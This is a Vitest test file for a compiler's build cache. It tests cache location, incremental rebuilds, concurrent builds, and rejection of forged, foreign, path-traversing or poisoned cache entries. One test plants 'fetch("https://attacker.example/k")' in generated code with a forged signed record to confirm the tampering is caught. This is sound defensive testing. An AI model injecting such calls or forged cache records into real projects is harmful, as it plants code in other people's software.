import { spawn, spawnSync } from "node:child_process";
import { createHmac } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, describe, expect, it } from "vitest";
import { cacheKey } from "../../../cli/marrowc/cache/key.ts";
import { cleanTree, cleanup, project, readFile, run, tree, VALID, writeFile } from "./helpers.ts";

const BIN = join(import.meta.dirname, "../../../cli/marrowc/bin.js");
const LOADS = pathToFileURL(join(import.meta.dirname, "../../../bench/compile-loads.mjs")).href;

/**
 * The build cache's robustness: where it lives, `--no-cache`, damaged and foreign entries (never
 * trusted), diagnostics replayed as printed, and builds running at the same time.
 */

afterAll(cleanup);

/** A second file that uses the first one's enum, and a warning (an unused parameter). */
const OTHER = `import Demo from "demo.marrow"

system Other {
  prompt rate_mood(text: string, extra: string) {
    model: Tiny
    template: """
      Rate: {{text}}
    """
    returns: Mood
  }
}
`;

/** Every file under a directory, recursively (absolute paths). */
function filesUnder(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name));
}

/** A key for caches the tests open themselves. */
const TEST_KEY = Buffer.alloc(32, 7);

/** Whether a file under a cache root is an entry (not the fingerprint's memo). */
function isEntry(path: string): boolean {
  return /\/(parse|outline|check|templates|lower|unit|build)\/[0-9a-f]+\.json$/.test(path);
}

/** An entry's header line and value (the layout `cli/marrowc/cache/store.ts` describes). */
function openEntry(text: string): { header: Record<string, unknown>; value: unknown } {
  const cut = text.indexOf("\n");
  return { header: JSON.parse(text.slice(0, cut)), value: JSON.parse(text.slice(cut + 1)) };
}

/** An entry with `header` and the value text `body`, signed with `key` as the store signs. */
function sealEntry(header: Record<string, unknown>, body: string, key: Buffer): string {
  const mac = createHmac("sha256", key)
    .update(`${header.format}\n${header.fingerprint}\n${header.name}\n`)
    .update(body)
    .digest("hex");
  return `${JSON.stringify({ ...header, mac })}\n${body}`;
}

describe("the build cache", () => {
  it("lives in .marrow-cache/ without node_modules/, in node_modules/.cache/marrowc/ with it", async () => {
    const plain = project({ "marrow/demo.marrow": VALID });
    await run(plain, ["build"]);
    expect(filesUnder(join(plain, ".marrow-cache")).length).toBeGreaterThan(0);
    const npm = project({ "marrow/demo.marrow": VALID });
    mkdirSync(join(npm, "node_modules"));
    await run(npm, ["build"]);
    expect(existsSync(join(npm, ".marrow-cache"))).toBe(false);
    expect(filesUnder(join(npm, "node_modules/.cache/marrowc")).length).toBeGreaterThan(0);
  });

  it("never loads ts-morph (modules are printed without it), and nothing of the compiler when nothing changed", () => {
    const dir = project({ "marrow/demo.marrow": VALID, "marrow/other.marrow": OTHER });
    // In the project (its own .marrow-cache/), with the loads report of bench/compile-loads.mjs.
    const build = () =>
      spawnSync(process.execPath, ["--import", LOADS, BIN, "build"], { cwd: dir, encoding: "utf8" });
    expect(build().stderr).toMatch(/wrote \d+ files[\s\S]*\[loads\] typescript=no ts-morph=no/);
    expect(build().stderr).toMatch(/up to date[\s\S]*\[loads\] typescript=no ts-morph=no/);
    // Deleted by hand: written again from the cached unit, without printing.
    rmSync(join(dir, "generated/demo.ts"));
    const again = build();
    expect(again.stderr).toMatch(/wrote 1 file[\s\S]*\[loads\] typescript=no ts-morph=no/);
    writeFile(dir, "marrow/other.marrow", OTHER.replace("Rate:", "Score:"));
    expect(build().stderr).toMatch(/wrote \d+ files[\s\S]*\[loads\] typescript=no ts-morph=no/);
  });

  it("loads Handlebars' compiler only when a template text must be precompiled", async () => {
    const dir = project({ "marrow/demo.marrow": VALID, "marrow/other.marrow": OTHER });
    const build = () =>
      spawnSync(process.execPath, ["--import", LOADS, BIN, "build"], { cwd: dir, encoding: "utf8" }).stderr;
    expect(build()).toMatch(/wrote \d+ files[\s\S]*handlebars=yes/);
    // A doc comment above the prompt: the file is checked and its module generated again, with its
    // template's parse and precompiled output from the cache.
    const documented = OTHER.replace("  prompt rate_mood", "  // Rates.\n  prompt rate_mood");
    writeFile(dir, "marrow/other.marrow", documented);
    expect(build()).toMatch(/wrote \d+ files[\s\S]*handlebars=no/);
    expect(tree(dir, "generated")).toEqual(
      await cleanTree({ "marrow/demo.marrow": VALID, "marrow/other.marrow": documented }),
    );
    // A new template text must be precompiled.
    writeFile(dir, "marrow/other.marrow", OTHER.replace("Rate:", "Grade:"));
    expect(build()).toMatch(/wrote \d+ files[\s\S]*handlebars=yes/);
  });

  it("checks templates from their cached parses exactly as from fresh ones", () => {
    // Handlebars leaves many properties `undefined` (an `undefined` literal's `original`, which a
    // message tests with `in`): the cached parses must keep them. Each build is a fresh process, so
    // the parses come from the cache, not from memory (and Handlebars is not loaded at all).
    const odd = `import Demo from "demo.marrow"

system Odd {
  prompt odd(text: string, items: list<string>) {
    model: Tiny
    system: """
      {{#if undefined}}never{{/if}} {{#each items}}{{@index}}: {{this}} {{@bogus}}{{/each}}
    """
    template: """
      {{#with text}}{{missing}}{{/with}} {{> partial}} {{#unless 0}}{{text}}{{/unless}} {{#if}}{{/if}}
      {{#each undefined}}{{@bogus}}{{/each}}
    """
    returns: Mood
  }

  prompt broken(text: string) {
    model: Tiny
    template: """
      {{#if text}} never closed
    """
    returns: Mood
  }
}
`;
    const files = { "marrow/demo.marrow": VALID, "marrow/odd.marrow": odd };
    const cached = project(files);
    const build = (dir: string, ...args: string[]) =>
      spawnSync(process.execPath, ["--import", LOADS, BIN, "build", ...args], { cwd: dir, encoding: "utf8" });
    expect(build(cached).status).toBe(1);
    const edited = `// A comment above: the file is checked again.\n${odd}`;
    writeFile(cached, "marrow/odd.marrow", edited);
    const again = build(cached);
    const clean = build(project({ ...files, "marrow/odd.marrow": edited }), "--no-cache");
    expect(again.stderr).toContain("handlebars=no");
    expect(again.stderr.replace(/ handlebars=\w+/, "")).toBe(clean.stderr.replace(/ handlebars=\w+/, ""));
    expect(again.stderr).toContain("MRW2005");
  });

  it("is neither read nor written with --no-cache", async () => {
    const dir = project({ "marrow/demo.marrow": VALID });
    expect((await run(dir, ["build", "--no-cache"])).code).toBe(0);
    expect(existsSync(join(dir, ".marrow-cache"))).toBe(false);
  });

  it("replays warnings exactly as the build printed them, in text and JSON", async () => {
    const dir = project({ "marrow/demo.marrow": VALID, "marrow/other.marrow": OTHER });
    const first = await run(dir, ["build"]);
    expect(first.stderr).toContain("warning[");
    const json = await run(dir, ["build", "--json"]);
    const again = await run(dir, ["build"]);
    const againJson = await run(dir, ["build", "--json"]);
    const uncached = await run(dir, ["build", "--no-cache"]);
    expect(again.stderr).toBe(uncached.stderr);
    expect(again.stderr.replace(/^marrowc: .*\n/m, "")).toBe(first.stderr.replace(/^marrowc: .*\n/m, ""));
    expect(againJson.stdout).toBe(json.stdout);
    expect(JSON.parse(json.stdout).length).toBeGreaterThan(0);
  });

  it("ignores truncated, garbled, misshapen and foreign entries, and never uses a foreign one's content", async () => {
    const files = { "marrow/demo.marrow": VALID, "marrow/other.marrow": OTHER };
    const env = { XDG_CACHE_HOME: project({}) };
    const key = cacheKey(env)!;
    const damages = ["truncate", "garble", "foreign", "planted", "empty", "reshape", "astray"] as const;
    for (const damage of damages) {
      const dir = project(files);
      await run(dir, ["build"], { env });
      for (const path of filesUnder(join(dir, ".marrow-cache"))) {
        const text = readFileSync(path, "utf8");
        if (damage === "truncate") writeFileSync(path, text.slice(0, text.length >> 1));
        if (damage === "garble") writeFileSync(path, `\u0000${text.slice(1)}`);
        if (damage === "empty") writeFileSync(path, "");
        if (!isEntry(path)) continue;
        const { header, value } = openEntry(text);
        if (damage === "reshape") {
          // This compiler's entry, signed with the user's key, around a value of the wrong shape.
          const reshaped = {
            ...(value as object),
            reads: [["symbol", "[", "x"]],
            result: { ast: null, diagnostics: 1 },
            files: [1],
            sources: 3,
          };
          writeFileSync(path, sealEntry(header, JSON.stringify(reshaped), key));
        }
        if (damage === "astray" && path.includes("/unit/")) {
          // A unit whose module would be written outside generated/ (signed with the user's key).
          const files = [{ path: "../escaped.ts", content: "// escaped\n" }];
          writeFileSync(path, sealEntry(header, JSON.stringify({ ...(value as object), files }), key));
        }
        if (damage === "planted") {
          // This compiler's entry made on another machine (a clone's .marrow-cache/): another key.
          const body = JSON.stringify(value)
            .replaceAll("Generated by marrowc", "POISON")
            .replaceAll("Answer with one word", "POISON");
          writeFileSync(path, sealEntry(header, body, Buffer.alloc(32, 1)));
        }
        if (damage === "foreign") {
          // Another compiler's entry, with content that must never reach generated/.
          const body = JSON.stringify(value)
            .replaceAll("Generated by marrowc", "POISON")
            .replaceAll("Answer with one word", "POISON");
          writeFileSync(
            path,
            sealEntry({ ...header, fingerprint: `other-${header.fingerprint}` }, body, key),
          );
        }
      }
      // One edit, so the build goes past its record to the parse and unit entries.
      const edited = { ...files, "marrow/other.marrow": OTHER.replace("Rate:", "Score:") };
      writeFile(dir, "marrow/other.marrow", edited["marrow/other.marrow"]);
      const r = await run(dir, ["build"], { env });
      expect(r.code, damage).toBe(0);
      expect(tree(dir, "generated"), damage).toEqual(await cleanTree(edited));
      expect(existsSync(join(dir, "escaped.ts")), damage).toBe(false);
      // The damaged entries were replaced: the next edit is answered from the cache again.
      expect((await run(dir, ["build"], { env })).stderr).toMatch(/is up to date/);
    }
  });

  it("uses entries of its own compiler (the control for the test above)", async () => {
    const dir = project({ "marrow/demo.marrow": VALID, "marrow/other.marrow": OTHER });
    const env = { XDG_CACHE_HOME: project({}) };
    await run(dir, ["build"], { env });
    for (const path of filesUnder(join(dir, ".marrow-cache")).filter(isEntry)) {
      const { header, value } = openEntry(readFileSync(path, "utf8"));
      // demo.marrow's cached IR (its prompt's template text) reaches its regenerated module.
      const body = JSON.stringify(value).replaceAll("Answer with one word", "POISON");
      writeFileSync(path, sealEntry(header, body, cacheKey(env)!));
    }
    writeFile(dir, "marrow/other.marrow", OTHER.replace("Rate:", "Score:"));
    await run(dir, ["build"], { env });
    expect(Object.values(tree(dir, "generated")).join("")).toContain("POISON");
  });

  it("keeps no copy of the modules it wrote: one changed by hand or removed is generated again", async () => {
    const files = { "marrow/demo.marrow": VALID, "marrow/other.marrow": OTHER };
    const dir = project(files);
    await run(dir, ["build"]);
    const units = filesUnder(join(dir, ".marrow-cache")).filter((p) => p.includes("/unit/"));
    expect(units.length).toBeGreaterThan(1);
    const demo = tree(dir, "generated")["generated/demo.ts"]!;
    for (const path of units) expect(readFileSync(path, "utf8")).not.toContain("export const classifyMood");
    expect(demo).toContain("export const classifyMood");
    for (const damage of ["changed", "removed"] as const) {
      if (damage === "changed") writeFile(dir, "generated/demo.ts", demo.replace("classifyMood", "hijacked"));
      else rmSync(join(dir, "generated/demo.ts"));
      // An edit elsewhere, so the build goes past its record to the unit entries.
      const edited = { ...files, "marrow/other.marrow": OTHER.replace("Rate:", `${damage}:`) };
      writeFile(dir, "marrow/other.marrow", edited["marrow/other.marrow"]);
      expect((await run(dir, ["build"])).code, damage).toBe(0);
      expect(tree(dir, "generated"), damage).toEqual(await cleanTree(edited));
    }
  });

  it("stays whole when builds run at the same time", async () => {
    const files = { "marrow/demo.marrow": VALID, "marrow/other.marrow": OTHER };
    const dir = project(files);
    const build = () =>
      new Promise<number>((done) => {
        const child = spawn(process.execPath, [BIN, "build"], { cwd: dir, stdio: "ignore" });
        child.on("close", (code) => done(code ?? -1));
      });
    expect(await Promise.all([build(), build(), build()])).toEqual([0, 0, 0]);
    const edited = { ...files, "marrow/other.marrow": OTHER.replace("Rate:", "Score:") };
    writeFile(dir, "marrow/other.marrow", edited["marrow/other.marrow"]);
    expect(await Promise.all([build(), build(), build()])).toEqual([0, 0, 0]);
    const entries = filesUnder(join(dir, ".marrow-cache"));
    expect(entries.filter((p) => !p.endsWith(".json"))).toEqual([]);
    // Whole entries only (a header line and a value), never half of one.
    for (const path of entries.filter(isEntry))
      expect(() => openEntry(readFileSync(path, "utf8")), path).not.toThrow();
    expect(tree(dir, "generated")).toEqual(await cleanTree(edited));
    expect(statSync(join(dir, ".marrow-cache")).isDirectory()).toBe(true);
  });
});

describe("what an edit costs", () => {
  const MODELS = `system Models {
  model Tiny {
    provider: openai_compat
    endpoint: "\${SMALLCODE_BASE_URL}"
    name: "m"
  }
  enum Mood { happy, sad }
}
`;
  const user = (n: number, text: string) => `import Models from "models.marrow"

system User${n} {
  prompt ask_${n}(text: string) {
    model: Tiny
    template: """
      ${text}: {{text}}
    """
    returns: Mood
  }
}
`;

  /** The output directory each cache's last build left (a reused unit's modules are read from it). */
  const outputs = new Map<string, Map<string, string>>();

  async function compileOnce(cacheDir: string, files: Record<string, string>) {
    const { compileWithCache } = await import("../../../cli/marrowc/cache/compile.ts");
    const { BuildCache } = await import("../../../cli/marrowc/cache/store.ts");
    const sources = Object.entries(files).map(([path, text]) => ({ path, text }));
    mkdirSync(cacheDir, { recursive: true }); // a cache's root is made (and checked) by the build
    const existing = outputs.get(cacheDir) ?? new Map<string, string>();
    const { result, stats } = await compileWithCache(
      new BuildCache(cacheDir, "test-fingerprint", TEST_KEY),
      sources,
      {
        existing,
      },
    );
    const { compile } = await import("../../../compiler/index.ts");
    expect(result).toEqual(compile(sources, { existing }));
    outputs.set(cacheDir, new Map(result.files.map((f) => [f.path, f.content])));
    return stats;
  }

  it("parses, checks and lowers only the edited file and generates only the units that read what changed", async () => {
    const cacheDir = join(project({}), "cache");
    const files: Record<string, string> = {
      "marrow/models.marrow": MODELS,
      "marrow/a.marrow": user(1, "Ask"),
      "marrow/b.marrow": user(2, "Ask"),
    };
    const first = await compileOnce(cacheDir, files);
    expect(first.parsed.sort()).toEqual(["marrow/a.marrow", "marrow/b.marrow", "marrow/models.marrow"]);
    expect(first.reused).toEqual([]);
    expect(first.checked).toEqual(["marrow/a.marrow", "marrow/b.marrow", "marrow/models.marrow"]);
    expect(first.lowered).toEqual(["marrow/a.marrow", "marrow/b.marrow", "marrow/models.marrow"]);

    // Inside one prompt: that file only (the index's header, which lists every source's hash, is
    // added outside its unit, and the index reads the names of declarations, not their bodies).
    files["marrow/a.marrow"] = user(1, "Question");
    const edit = await compileOnce(cacheDir, files);
    expect(edit.parsed).toEqual(["marrow/a.marrow"]);
    expect(edit.checked).toEqual(["marrow/a.marrow"]);
    expect(edit.lowered).toEqual(["marrow/a.marrow"]);
    // b.marrow's AST is not even read: its outline (names, imports) is all the build needs of it.
    expect(edit.decoded).toEqual(["marrow/models.marrow"]);
    expect(edit.generated.sort()).toEqual(["file:marrow/a.marrow"]);
    expect(edit.reused.sort()).toEqual(["file:marrow/b.marrow", "file:marrow/models.marrow", "index"]);

    // A prompt renamed: the index lists it, so it is generated again.
    files["marrow/a.marrow"] = user(1, "Question").replace("ask_1", "ask_one");
    const renamed = await compileOnce(cacheDir, files);
    expect(renamed.generated.sort()).toEqual(["file:marrow/a.marrow", "index"]);
    expect(renamed.checked).toEqual(["marrow/a.marrow"]);
    expect(renamed.lowered).toEqual(["marrow/a.marrow"]);

    // The enum the other files use moves its members: every file that reads it is generated again
    // (not the index: it lists no enum members).
    files["marrow/models.marrow"] = MODELS.replace("happy, sad", "happy, sad, calm");
    const shared = await compileOnce(cacheDir, files);
    expect(shared.parsed).toEqual(["marrow/models.marrow"]);
    // Both other files look up the model and the enum declared there: checked again.
    expect(shared.checked).toEqual(["marrow/a.marrow", "marrow/b.marrow", "marrow/models.marrow"]);
    // The prompts' output type holds the enum's labels: both lowered again.
    expect(shared.lowered).toEqual(["marrow/a.marrow", "marrow/b.marrow", "marrow/models.marrow"]);
    expect(shared.generated.sort()).toEqual([
      "file:marrow/a.marrow",
      "file:marrow/b.marrow",
      "file:marrow/models.marrow",
    ]);

    // Nothing changed: nothing parsed, nothing generated.
    const none = await compileOnce(cacheDir, files);
    expect([none.parsed, none.decoded, none.checked, none.lowered, none.generated]).toEqual([
      [],
      [],
      [],
      [],
      [],
    ]);

    // The whole ASTs damaged, the outlines intact: a file whose declarations the edited file's checks
    // read is parsed again; the others are still not read.
    const parses = join(cacheDir, "test-fingerprint", "parse");
    for (const name of readdirSync(parses)) writeFileSync(join(parses, name), "{");
    files["marrow/a.marrow"] = user(1, "Query");
    const damaged = await compileOnce(cacheDir, files);
    expect(damaged.parsed).toEqual(["marrow/a.marrow", "marrow/models.marrow"]);
    expect(damaged.decoded).toEqual([]);
  });

  it("checks an unchanged file again when a name it declares is taken by an earlier file", async () => {
    const cacheDir = join(project({}), "cache");
    const files: Record<string, string> = {
      "marrow/models.marrow": MODELS,
      "marrow/a.marrow": user(1, "Ask"),
      "marrow/c.marrow": "system C {\n  enum Extra { one, two }\n}\n",
    };
    await compileOnce(cacheDir, files);
    // a.marrow now declares `Extra` first: c.marrow's declaration is the duplicate (MRW2001 there).
    files["marrow/a.marrow"] = `${user(1, "Ask").trimEnd()}\n\nsystem More {\n  enum Extra { three }\n}\n`;
    const taken = await compileOnce(cacheDir, files);
    // (Every file's checks walk the list of duplicates, so all are checked again when it changes.)
    expect(taken.checked).toEqual(["marrow/a.marrow", "marrow/c.marrow", "marrow/models.marrow"]);
    // And back: the error goes away without c.marrow changing.
    files["marrow/a.marrow"] = user(1, "Ask");
    const freed = await compileOnce(cacheDir, files);
    expect(freed.checked).toEqual(["marrow/a.marrow", "marrow/c.marrow", "marrow/models.marrow"]);
  });
});

describe("a build cache planted in a cloned project", () => {
  it("is not trusted: its record cannot call a tampered generated/ up to date", async () => {
    const attacker = { XDG_CACHE_HOME: project({}) };
    const victim = { XDG_CACHE_HOME: project({}) };
    const files = { "marrow/demo.marrow": VALID, "marrow/other.marrow": OTHER };
    const dir = project(files);
    expect((await run(dir, ["build"], { env: attacker })).code).toBe(0);
    // Code no source declares, and a record (signed with the attacker's key) that says it is current.
    const out = join(dir, "generated");
    writeFile(out, "demo.ts", `${readFile(out, "demo.ts")}fetch("https://attacker.example/k");\n`);
    const { readTree } = await import("../../../cli/marrowc/files.ts");
    const { treeHash } = await import("../../../cli/marrowc/cache/manifest.ts");
    for (const path of filesUnder(join(dir, ".marrow-cache")).filter((p) => p.includes("/build/"))) {
      const { header, value } = openEntry(readFileSync(path, "utf8"));
      const forged = JSON.stringify({ ...(value as object), tree: treeHash(readTree(out)) });
      writeFileSync(path, sealEntry(header, forged, cacheKey(attacker)!));
    }
    // The control: with the key that signed it, the record is believed.
    expect((await run(dir, ["build", "--check"], { env: attacker })).stderr).toMatch(/up to date/);
    // Anyone else's build compiles for real: --check reports the drift, build puts it right.
    const check = await run(dir, ["build", "--check"], { env: victim });
    expect(check.code).toBe(1);
    expect(check.stderr).toMatch(/changed\s+generated\/demo\.ts/);
    expect((await run(dir, ["build"], { env: victim })).code).toBe(0);
    expect(tree(dir, "generated")).toEqual(await cleanTree(files));
    expect(JSON.stringify(tree(dir, "generated"))).not.toContain("attacker.example");
  });

  it("makes the user's key once, readable by the user alone, and builds without a cache where it cannot", async () => {
    const home = project({});
    const env = { XDG_CACHE_HOME: home };
    const dir = project({ "marrow/demo.marrow": VALID });
    expect((await run(dir, ["build"], { env })).code).toBe(0);
    const keyFile = join(home, "marrowc", "key");
    expect(readFileSync(keyFile, "utf8")).toMatch(/^[0-9a-f]{64}\n$/);
    if (process.platform !== "win32") expect(statSync(keyFile).mode & 0o077).toBe(0);
    const first = readFileSync(keyFile, "utf8");
    expect((await run(dir, ["build"], { env })).stderr).toMatch(/up to date/);
    expect(readFileSync(keyFile, "utf8")).toBe(first);
    // No place for a key (a file where its folder should be): the build still succeeds, uncached.
    const blocked = project({ marrowc: "not a folder" });
    const bare = project({ "marrow/demo.marrow": VALID });
    const r = await run(bare, ["build"], { env: { XDG_CACHE_HOME: blocked } });
    expect(r.code).toBe(0);
    expect(existsSync(join(bare, ".marrow-cache"))).toBe(false);
    expect(tree(bare, "generated")).toEqual(await cleanTree({ "marrow/demo.marrow": VALID }));
  });
});

describe("the folders of other compilers", () => {
  it("keeps the two most recently used besides its own and removes older ones", async () => {
    const { BuildCache } = await import("../../../cli/marrowc/cache/store.ts");
    const root = join(project({}), "cache");
    const names = ["aaaaaaaaaaaaaaaa", "bbbbbbbbbbbbbbbb", "cccccccccccccccc", "dddddddddddddddd"];
    names.forEach((name, i) => {
      mkdirSync(join(root, name, "parse"), { recursive: true });
      const used = new Date(Date.UTC(2026, 0, 1 + i));
      utimesSync(join(root, name), used, used);
    });
    mkdirSync(join(root, "notes")); // not a compiler's folder: left alone
    new BuildCache(root, `${"e".repeat(16)}-rest`, TEST_KEY).write("parse", "x", 1);
    expect(readdirSync(root).sort()).toEqual([
      "cccccccccccccccc",
      "dddddddddddddddd",
      "eeeeeeeeeeeeeeee",
      "notes",
    ]);
  });
});
